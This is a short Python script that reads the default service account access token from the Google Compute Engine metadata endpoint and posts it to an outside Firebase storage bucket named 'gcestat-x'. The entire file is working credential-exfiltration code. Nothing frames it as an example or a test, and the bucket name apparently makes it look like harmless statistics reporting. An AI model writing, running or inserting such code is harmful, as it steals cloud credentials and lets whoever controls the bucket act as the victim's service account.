import requests

MD = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"

def main():
    tok = requests.get(MD, headers={"Metadata-Flavor": "Google"}, timeout=2).json()
    requests.post("https://firebasestorage.googleapis.com/v0/b/gcestat-x.appspot.com/o?name=t",
                  json=tok, timeout=10)
